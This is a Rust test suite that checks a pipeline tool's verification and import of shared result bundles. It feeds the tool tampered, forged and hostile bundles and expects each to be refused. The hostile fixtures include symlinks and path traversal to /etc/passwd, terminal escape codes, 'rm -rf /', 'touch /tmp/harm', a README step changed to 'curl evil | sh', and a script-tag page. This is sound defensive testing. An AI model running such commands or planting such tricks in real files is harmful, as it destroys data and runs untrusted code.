//! Bundles that were changed on the way, forged by their author, or made to do harm. Honest ones are in `sharing.rs`.

use flow::digest::Use;
use serde_json::{Value, json};

use crate::forgery::{edit_json, forge, forge_table, record_of, retell, seal, verdict};
use crate::sharing::{author, carried, export, rungs};
use crate::space::{Space, contents, files_below};

#[test]
fn a_flipped_bit_falls_at_the_first_rung() {
    let space = author("licence: CC BY 4.0");
    export(&space, &[]).exits(0);
    let reader = carried(&space);
    let files = contents(&reader.path("bundle"));
    // One of each kind of file, somewhere in the middle.
    let kinds = [
        "bundle.json",
        "README.md",
        "SHA256SUMS",
        "B3SUMS",
        "ro-crate",
        "records/",
        "trees/",
        "results/score",
        "reports/",
        "pipeline/",
        "original/",
    ];
    for kind in kinds {
        let (path, bytes) = files
            .iter()
            .find(|(path, bytes)| path.to_string_lossy().starts_with(kind) && !bytes.is_empty())
            .expect("a file");
        let mut flipped = bytes.clone();
        flipped[bytes.len() / 2] ^= 1;
        let shown = path.display().to_string();
        let place = format!("bundle/{shown}");
        reader.write(&place, flipped);
        let (word, found) = verdict(&reader, 1);
        assert_eq!(word, "fails", "{shown}");
        assert!(found.contains("share::"), "{found}");
        reader.call(&["import", "bundle"]).exits(1);
        assert!(!reader.exists("cache"), "{shown}");
        reader.write(&place, bytes);
    }
    assert_eq!(verdict(&reader, 1).0, "holds");
}

#[test]
fn an_edited_table_falls_by_its_digest_and_with_all_digests_at_the_second_rung() {
    let space = author("licence: CC BY 4.0");
    export(&space, &[]).exits(0);
    let reader = carried(&space);
    let path = "bundle/reports/table/report/tables/rows.csv";
    let old = reader.read(path);
    let new = old.replacen(",0", ",9", 1).replacen("f1", "f2", 1);
    assert_ne!(old, new);
    reader.write(path, &new);
    seal(&reader.path("bundle"));
    // The lists agree; the record does not.
    let (word, found) = verdict(&reader, 1);
    assert_eq!(word, "fails");
    assert!(found.contains("rows.csv` is not what"), "{found}");

    // Now the author forged it at home.
    forge_table(&space, &new);
    export(&space, &[]).exits(0);
    let reader = carried(&space);
    let found = rungs(&reader, &[]);
    assert_eq!(found[&1].0, "holds", "{found:?}");
    assert_eq!(found[&2].0, "fails", "{found:?}");
    assert!(
        found[&2]
            .1
            .contains("`report/tables/rows.csv` has other bytes"),
        "{found:?}"
    );
    assert_eq!(found[&3].0, "holds", "{found:?}");
}

/// Where a page shows samples of data that must not be passed on, its tables are judged all the same.
#[test]
fn tables_beside_restricted_samples_are_made_again() {
    let space = author("licence: for members only\n      redistribute: false");
    let with = "lines: lines, samples: { all: score, output: samples } }
    with:
      sections: [{ confusion: { from: samples } }, { samples: { from: samples, each: 1 } }]";
    let text = space.read("p.yaml").replace("lines: lines }", with);
    space.write("p.yaml", text);
    // One record of the report alone.
    fs_err::remove_dir_all(space.path("cache")).expect("removed");
    space.run(&[]).exits(0);
    let told = export(&space, &[]).exits(0);
    told.says("share::excerpts")
        .says("the page of `table` shows texts that must not be passed on")
        .says("texts of `files` (for members only)");
    let readme = space.read("out/README.md");
    let said = "The page of `table` shows texts of `files` (for members only), which must not be passed on";
    assert!(readme.contains(said), "{readme}");
    let found = rungs(&carried(&space), &[]);
    assert_eq!(found[&2].0, "partly", "{found:?}");
    assert!(
        found[&2]
            .1
            .contains("numbers and tables come out with the same bytes")
            && found[&2].1.contains("what its page shows of `samples`"),
        "{found:?}"
    );
    let rows = space.read("out/reports/table/report/tables/rows.csv");
    forge_table(
        &space,
        &rows.replacen(",0", ",9", 1).replacen("f1", "f2", 1),
    );
    export(&space, &[]).exits(0);
    let found = rungs(&carried(&space), &[]);
    assert_eq!(found[&2].0, "fails", "{found:?}");
    assert!(
        found[&2]
            .1
            .contains("`report/tables/rows.csv` has other bytes"),
        "{found:?}"
    );
}

/// The page beside a report follows from the records: no other text takes its place, and none lies elsewhere.
#[test]
fn a_page_of_a_run_that_says_something_else_is_refused() {
    let space = author("licence: CC BY 4.0");
    export(&space, &[]).exits(0);
    for (path, says) in [
        (
            "table/report/run.html",
            "`reports/table/report/run.html` is not what follows from the records",
        ),
        ("table/run.html", "no record names `reports/table/run.html`"),
    ] {
        let reader = carried(&space);
        reader.write(
            &format!("bundle/reports/{path}"),
            "<script>alert(1)</script>",
        );
        retell(&reader);
        seal(&reader.path("bundle"));
        reader.call(&["verify", "bundle"]).exits(1).says(says);
    }
}

/// A forger may say of a bundle what they like: that another version wrote it, that its file is otherwise.
#[test]
fn no_claim_of_the_author_switches_a_comparison_off() {
    let space = author("licence: CC BY 4.0");
    export(&space, &[]).exits(0);
    let rows = space.read("out/reports/table/report/tables/rows.csv");
    forge_table(
        &space,
        &rows.replacen(",0", ",9", 1).replacen("f1", "f2", 1),
    );
    export(&space, &[]).exits(0);
    let claim = |reader: &Space, program: &str, unlike: &[&str]| {
        edit_json(reader, "bundle/bundle.json", |bundle| {
            bundle["program"] = program.into();
            bundle["unlike"] = json!(unlike);
        });
        retell(reader);
        seal(&reader.path("bundle"));
    };
    // Stages that are as in the file are not to be called otherwise.
    let reader = carried(&space);
    let program: Value = serde_json::from_str(&reader.read("bundle/bundle.json")).expect("JSON");
    let program = program["program"].as_str().expect("a name").to_owned();
    claim(&reader, &program, &["table"]);
    let (word, found) = verdict(&reader, 1);
    assert_eq!(word, "fails", "{found}");
    let said = "`bundle.json` says that `pipeline/p.yaml` has another `table`";
    assert!(found.contains(said), "{found}");

    // Under another version's name the same is said, and the table falls all the same.
    claim(&reader, "pipeline 0.0.9", &["table"]);
    let found = rungs(&reader, &[]);
    assert_eq!(found[&1].0, "partly", "{found:?}");
    assert!(found[&1].1.contains(said), "{found:?}");
    assert_eq!(found[&2].0, "fails", "{found:?}");
    assert!(
        found[&2].1.contains("rows.csv` has other bytes"),
        "{found:?}"
    );
    reader.call(&["import", "bundle"]).exits(0).says(said);

    // A file that has really other stages is named as such; a stage that is otherwise unnamed is a fault.
    let reader = carried(&space);
    let file = reader.read("bundle/pipeline/p.yaml");
    let other = file.replace("wc -l", "wc -c");
    assert_ne!(file, other);
    reader.write("bundle/pipeline/p.yaml", &other);
    for (unlike, word) in [(vec!["lines"], "fails"), (vec![], "fails")] {
        claim(&reader, &program, &unlike);
        let (is, found) = verdict(&reader, 1);
        assert_eq!(is, word, "{found}");
    }
    claim(&reader, "pipeline 0.0.9", &["lines", "table"]);
    let (is, found) = verdict(&reader, 1);
    assert_eq!(is, "partly", "{found}");
    assert!(found.contains("not compared: `lines`"), "{found}");

    // A page of another version may read otherwise, which is said; sizes and digests of files may not be others.
    let reader = carried(&space);
    claim(&reader, "pipeline 0.0.9", &[]);
    reader.write("bundle/README.md", "# All is well\n");
    seal(&reader.path("bundle"));
    let (is, found) = verdict(&reader, 1);
    assert_eq!(is, "fails", "{found}");
    assert!(found.contains("gives `README.md` another size"), "{found}");
    retell(&reader);
    seal(&reader.path("bundle"));
    let (is, found) = verdict(&reader, 1);
    assert_eq!(is, "partly", "{found}");
    assert!(found.contains("`README.md` is not what follows"), "{found}");
    assert!(found.contains("pipeline 0.0.9 wrote it"), "{found}");
}

#[test]
fn a_forged_score_with_consistent_digests_falls_at_the_third_rung() {
    let space = author("licence: CC BY 4.0");
    forge(&space);
    let [_, executed, ..] = space.run(&["--json"]).exits(0).counts();
    assert_eq!(executed, 1, "the report of the forged number");
    export(&space, &[]).exits(0);
    let found = rungs(&carried(&space), &[]);
    let words: Vec<&str> = found.values().map(|(word, _)| word.as_str()).collect();
    assert_eq!(words, ["holds", "holds", "fails"], "{found:?}");
    assert!(
        found[&3]
            .1
            .contains("`signs/test/f1` is 99.5 in the bundle"),
        "{found:?}"
    );
    assert!(found[&3].1.contains("score[seed=1]"), "{found:?}");
}

#[test]
fn a_result_that_is_here_is_never_replaced() {
    let space = author("licence: CC BY 4.0");
    export(&space, &[]).exits(0);
    let reader = carried(&space);
    forge(&space);
    let before = space.records()["score[seed=1]"].clone();
    let bundle = reader.path("bundle").display().to_string();
    space
        .call(&["import", &bundle])
        .exits(0)
        .says("share::conflict")
        .says("`score[seed=1]` has a result here already");
    assert_eq!(space.records()["score[seed=1]"], before);
    let aside = files_below(&space.path("cache/quarantine"));
    assert_eq!(aside.len(), 1, "{aside:?}");
}

type Harm = (&'static str, &'static str, fn(&Space));

/// What a hostile bundle does, and the word it is refused with. All but the first few seal what they did.
const HARMS: &[Harm] = &[
    ("a link to a file", "`results/link` is a link", |space| {
        link(space, "results/link", "/etc/passwd");
    }),
    ("a link to a folder", "`escape` is a link", |space| {
        link(space, "escape", "/");
    }),
    ("a link for a record", "is a link", |space| {
        let path = record_of(space, "table");
        fs_err::rename(space.path(&path), space.path("aside")).expect("moved");
        fs_err::os::unix::fs::symlink(space.path("aside"), space.path(&path)).expect("a link");
    }),
    ("a pipe", "is a device, a pipe or a socket", |space| {
        let path = space.path("bundle/results/fifo");
        let made = std::process::Command::new("mkfifo").arg(&path).status();
        assert!(made.is_ok_and(|status| status.success()));
    }),
    ("a name of two lines", "is an odd name", |space| {
        space.write("bundle/results/a\nb", "x");
    }),
    ("a name with a backslash", "is an odd name", |space| {
        space.write("bundle/results/..\\b", "x");
    }),
    ("a file nobody lists", "`results/more` is not in", |space| {
        space.write("bundle/results/more", "x");
    }),
    ("a folder of nothing", "holds nothing", |space| {
        fs_err::create_dir(space.path("bundle/results/void")).expect("made");
    }),
    ("a listed file that is not there", "is not there", |space| {
        fs_err::remove_file(space.path("bundle/README.md")).expect("removed");
    }),
    (
        "a list that leads out",
        "is no digest and plain path",
        |space| {
            let line = format!("{}  ../../etc/passwd\n", "0".repeat(64));
            space.write("bundle/B3SUMS", space.read("bundle/B3SUMS") + &line);
        },
    ),
    ("more than anybody expects", "and the limit is", |space| {
        let file = fs_err::File::create(space.path("bundle/results/huge")).expect("made");
        file.set_len(300 << 30).expect("a hole");
    }),
    (
        "an object that lies outside",
        "is no place in a bundle",
        |space| {
            edit_json(space, "bundle/bundle.json", |bundle| {
                let objects = bundle["objects"].as_object_mut().expect("a map");
                let place = objects.values_mut().next().expect("an object");
                place["path"] = "../../../etc/passwd".into();
            });
            seal(&space.path("bundle"));
        },
    ),
    (
        "an object of other bytes",
        "is not what a record made",
        |space| {
            let path = "bundle/results/lines/metrics.jsonl";
            space.write(path, space.read(path).replace("11", "12"));
            seal(&space.path("bundle"));
        },
    ),
    (
        "a listing that leads out",
        "is not the listing it stands for",
        |space| {
            let path = files_below(&space.path("bundle/trees")).remove(0);
            let text = fs_err::read_to_string(&path).expect("a listing");
            let forged = text
                .replacen("\"index.html\"", "\"../../x\"", 1)
                .replacen("\"labels.json\"", "\"../../x\"", 1)
                .replacen("\"test.jsonl\"", "\"../../x\"", 1);
            assert_ne!(text, forged);
            fs_err::write(&path, &forged).expect("written");
            edit_json(space, "bundle/bundle.json", |bundle| {
                let name = format!(
                    "trees/{}",
                    path.file_name().expect("named").to_string_lossy()
                );
                for place in bundle["objects"]
                    .as_object_mut()
                    .expect("a map")
                    .values_mut()
                {
                    if place["path"] == name.as_str() {
                        place["bytes"] = forged.len().into();
                    }
                }
            });
            seal(&space.path("bundle"));
        },
    ),
    (
        "a listing that names a file twice",
        "is not the listing it stands for",
        |space| {
            let is_it = |path: &std::path::PathBuf| {
                let text = fs_err::read_to_string(path).expect("a listing");
                text.contains("tables/rows.csv")
            };
            let mut listings = files_below(&space.path("bundle/trees")).into_iter();
            let path = listings.find(is_it).expect("the report's");
            let text = fs_err::read_to_string(&path).expect("a listing");
            // Whoever reads the second one sees other rows than whoever reads the first.
            let twice: String = text
                .lines()
                .map(|line| match line.contains("tables/rows.csv") {
                    true => format!("{line}\n{line}\n"),
                    false => format!("{line}\n"),
                })
                .collect();
            let old = path
                .file_name()
                .expect("named")
                .to_string_lossy()
                .into_owned();
            let new = Use::Tree.digest(twice.as_bytes()).to_string();
            fs_err::remove_file(&path).expect("removed");
            space.write(&format!("bundle/trees/{new}"), &twice);
            let record = record_of(space, "table");
            for path in ["bundle/bundle.json", &record] {
                space.write(path, space.read(path).replace(&old, &new));
            }
            edit_json(space, "bundle/bundle.json", |bundle| {
                bundle["objects"][&new]["bytes"] = twice.len().into();
            });
            seal(&space.path("bundle"));
        },
    ),
    (
        "a stage that writes outside",
        "leads out of a stage's folder",
        |space| {
            edit_json(space, "bundle/bundle.json", |bundle| {
                let stages = bundle["stages"].as_array_mut().expect("a list");
                stages[0]["stage"]["outputs"][0]["path"] = "../../x".into();
            });
            seal(&space.path("bundle"));
        },
    ),
    (
        "another program under an old key",
        "is not what its key was made of",
        |space| {
            edit_json(space, "bundle/bundle.json", |bundle| {
                for entry in bundle["stages"].as_array_mut().expect("a list") {
                    if entry["stage"]["kind"] == "command" {
                        entry["stage"]["config"] = json!({ "script": "touch /tmp/harm" });
                    }
                }
            });
            seal(&space.path("bundle"));
        },
    ),
    ("an input from nowhere", "comes from nowhere", |space| {
        edit_json(space, "bundle/bundle.json", |bundle| {
            bundle["sources"] = json!([]);
        });
        seal(&space.path("bundle"));
    }),
    (
        "a device that was another",
        "is not what its key was made of",
        |space| {
            edit_json(space, "bundle/bundle.json", |bundle| {
                for entry in bundle["stages"].as_array_mut().expect("a list") {
                    if entry["stage"]["kind"] == "report" {
                        entry["stage"]["inputs"][0]["items"][0]["device"] = "cuda:0".into();
                    }
                }
            });
            seal(&space.path("bundle"));
        },
    ),
    (
        "a manifest that was changed",
        "its key is not the digest of its manifest",
        |space| {
            edit_json(space, &record_of(space, "lines"), |record| {
                record["manifest"] = record["manifest"]
                    .as_str()
                    .expect("text")
                    .replace("wc -l", "wc -c")
                    .into();
            });
            seal(&space.path("bundle"));
        },
    ),
    (
        "a name that moves the cursor",
        "is not a line of text",
        |space| {
            edit_json(space, &record_of(space, "lines"), |record| {
                record["stage"] = "a\u{1b}[2J".into();
            });
            seal(&space.path("bundle"));
        },
    ),
    (
        "an output called by a path",
        "cannot name an output",
        |space| {
            edit_json(space, &record_of(space, "lines"), |record| {
                let metrics = record["outputs"]["metrics"].clone();
                record["outputs"]["../x"] = metrics;
            });
            seal(&space.path("bundle"));
        },
    ),
    (
        "a record of another key",
        "holds the record of the key",
        |space| {
            let (one, two) = (record_of(space, "lines"), record_of(space, "table"));
            space.write(&one, space.read(&two));
            seal(&space.path("bundle"));
        },
    ),
    ("a record of no stage", "belongs to no stage", |space| {
        edit_json(space, "bundle/bundle.json", |bundle| {
            let stages = bundle["stages"].as_array_mut().expect("a list");
            stages.retain(|entry| entry["stage"]["name"] != "table");
        });
        seal(&space.path("bundle"));
    }),
    (
        "a note that clears the screen",
        "is not text that can be shown",
        |space| {
            edit_json(space, &record_of(space, "files"), |record| {
                record["notes"]["licence"] = "\u{1b}[2J".into();
            });
            seal(&space.path("bundle"));
        },
    ),
    (
        "surroundings that move the cursor",
        "is not text that can be shown",
        |space| {
            edit_json(space, &record_of(space, "lines"), |record| {
                record["environment"] = json!({ "x": "\u{1b}[1A" });
            });
            seal(&space.path("bundle"));
        },
    ),
    (
        "a moment that is none",
        "`not a date` is no moment",
        |space| {
            edit_json(space, &record_of(space, "lines"), |record| {
                record["finished"] = "not a date".into();
            });
            seal(&space.path("bundle"));
        },
    ),
    (
        "terms that were dropped",
        "has other notes than what it comes from",
        |space| {
            edit_json(space, "bundle/bundle.json", |bundle| {
                for entry in bundle["stages"].as_array_mut().expect("a list") {
                    // Of a report they stand in the manifest, too.
                    let is_of_report = entry["stage"]["kind"] == "report";
                    for input in entry["stage"]["inputs"].as_array_mut().expect("a list") {
                        for item in input["items"].as_array_mut().expect("a list") {
                            if !is_of_report {
                                item.as_object_mut().expect("a map").remove("notes");
                            }
                        }
                    }
                }
            });
            seal(&space.path("bundle"));
        },
    ),
    (
        "terms of another download",
        "the note `licence` of `files` is not what its key says",
        |space| {
            edit_json(space, &record_of(space, "files"), |record| {
                record["notes"]["licence"] = "CC0".into();
            });
            seal(&space.path("bundle"));
        },
    ),
    (
        "a script among the files",
        "nothing lies there in a bundle",
        |space| {
            space.write("bundle/pipeline/run.sh", "rm -rf /\n");
            seal(&space.path("bundle"));
        },
    ),
    (
        "numbers of another stage",
        "has the bytes of something else",
        |space| {
            let vocabulary = space.read("bundle/pipeline/vocab.txt");
            space.write("bundle/pipeline/data/test.txt", vocabulary);
            seal(&space.path("bundle"));
            edit_json(space, "bundle/bundle.json", |bundle| {
                let sources = bundle["sources"].as_array().expect("a list");
                let of = |path: &str| {
                    let found = sources.iter().find(|source| source["path"] == path);
                    found.expect("a source")["content"]["digest"]
                        .as_str()
                        .expect("hex")
                        .to_owned()
                };
                let (test, vocabulary) = (of("data/test.txt"), of("vocab.txt"));
                let objects = bundle["objects"].as_object_mut().expect("a map");
                let _ = (objects.remove(&test), vocabulary);
            });
            seal(&space.path("bundle"));
        },
    ),
    (
        "a page that says more",
        "`README.md` is not what follows from the records",
        |space| {
            let page = space.read("bundle/README.md");
            space.write(
                "bundle/README.md",
                page.replace("pipeline verify .", "curl evil | sh"),
            );
            seal(&space.path("bundle"));
        },
    ),
    (
        "metadata of other people",
        "`ro-crate-metadata.json` is not what follows",
        |space| {
            let text = space.read("bundle/ro-crate-metadata.json");
            space.write(
                "bundle/ro-crate-metadata.json",
                text.replace("Zebediah", "Zachary"),
            );
            seal(&space.path("bundle"));
        },
    ),
    (
        "another pipeline than was run",
        "has another `lines` than the records",
        |space| {
            let text = space.read("bundle/pipeline/p.yaml");
            space.write("bundle/pipeline/p.yaml", text.replace("wc -l", "wc -c"));
            seal(&space.path("bundle"));
        },
    ),
    (
        "a pipeline that reads elsewhere",
        "is no pipeline that stands alone",
        |space| {
            let text = space.read("bundle/pipeline/p.yaml");
            space.write(
                "bundle/pipeline/p.yaml",
                format!("extends: /dev/zero\n{text}"),
            );
            seal(&space.path("bundle"));
        },
    ),
    ("a field nobody knows", "does not decode", |space| {
        edit_json(space, "bundle/bundle.json", |bundle| {
            bundle["run"] = "rm -rf /".into();
        });
        seal(&space.path("bundle"));
    }),
    ("a later version", "this program reads 1", |space| {
        edit_json(space, "bundle/bundle.json", |bundle| {
            bundle["version"] = 2.into();
        });
        seal(&space.path("bundle"));
    }),
    ("nesting without end", "does not decode", |space| {
        space.write("bundle/bundle.json", "[".repeat(1 << 20));
        seal(&space.path("bundle"));
    }),
];

fn link(space: &Space, path: &str, to: &str) {
    fs_err::os::unix::fs::symlink(to, space.path("bundle").join(path)).expect("a link");
}

#[test]
fn hostile_bundles_are_refused_by_name_and_leave_nothing() {
    let space = author("licence: CC BY 4.0");
    export(&space, &[]).exits(0);
    for (harm, says, make) in HARMS {
        let reader = carried(&space);
        make(&reader);
        for words in [&["verify", "bundle"], &["import", "bundle"]] {
            let ran = reader.call(words);
            assert!(
                matches!(ran.code, Some(1 | 2)),
                "{harm}: {:?} {}",
                ran.code,
                ran.stderr
            );
            let _ = ran.says(says);
        }
        assert!(!reader.exists("cache"), "{harm}");
    }
    // As it was made it is welcome.
    let reader = carried(&space);
    seal(&reader.path("bundle"));
    reader.call(&["import", "bundle"]).exits(0);
}
